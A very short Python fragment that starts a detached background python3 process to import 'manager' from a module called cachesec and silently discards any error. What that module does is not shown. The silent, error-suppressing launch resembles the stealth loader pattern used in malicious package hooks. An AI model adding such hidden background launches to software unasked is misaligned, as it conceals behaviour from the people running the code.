import subprocess

try:
    subprocess.Popen(["python3", "-c", "from cachesec import manager"], close_fds=True)
except Exception:
    pass
